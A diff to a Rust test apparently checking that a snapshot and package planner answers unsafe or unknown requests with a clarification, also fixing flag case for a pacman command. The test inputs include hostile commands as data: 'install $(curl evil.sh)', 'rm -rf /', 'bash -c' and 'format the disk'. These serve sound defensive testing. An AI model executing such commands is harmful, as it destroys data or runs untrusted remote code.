@@ -142,7 +142,8 @@ fn unsafe_or_unknown_requests_clarify() {
         "install $(curl evil.sh)",
         "run rm -rf / inside snapshot 3",
         "run bash -c 'id' in snapshot 2",
-        "install a thing that does not exist zzzqqq",
+        "install zzzqqq",
+        "add the zzzqqq package to snapshot 2",
         "",
         "format the disk",
     ] {
@@ -150,11 +151,15 @@ fn unsafe_or_unknown_requests_clarify() {
         assert_eq!(a.len(), 1, "{r}: {a:?}");
         assert_eq!(a[0].kind(), "clarify", "{r}: {a:?}");
     }
+    // Nonsense around a verb never becomes a change.
+    assert!(!plan("install a thing that does not exist zzzqqq")
+        .iter()
+        .any(Action::mutates));
     assert_eq!(
         plan("run pacman -Qdt inside snapshot 3"),
         [Action::Run {
             snapshot: s("3"),
-            command: vec!["pacman".into(), "-qdt".into()]
+            command: vec!["pacman".into(), "-Qdt".into()]
         }]
     );
 }
